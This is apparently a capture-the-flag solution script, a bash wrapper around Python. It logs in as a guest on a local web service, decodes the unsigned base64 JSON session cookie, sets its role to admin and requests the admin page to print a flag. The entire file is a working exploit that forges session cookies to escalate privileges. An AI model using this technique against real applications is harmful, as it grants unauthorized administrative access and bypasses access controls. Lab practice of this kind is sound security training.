#!/bin/bash
# Log in as guest, decode the base64 JSON session cookie, set role=admin, open /admin.
set -e
python3 - <<'PY'
import base64, http.client, json, re
c = http.client.HTTPConnection("127.0.0.1", 8102)
c.request("POST", "/login", "username=guest&password=guest", {"Content-Type": "application/x-www-form-urlencoded"})
r = c.getresponse(); r.read()
cookie = r.getheader("Set-Cookie").split(";")[0].split("=", 1)[1]
sess = json.loads(base64.b64decode(cookie))
sess["role"] = "admin"
forged = base64.b64encode(json.dumps(sess).encode()).decode()
c.request("GET", "/admin", headers={"Cookie": "session=" + forged})
body = c.getresponse().read().decode()
print(re.search(r"flag\{[^}]+\}", body).group(0))
PY
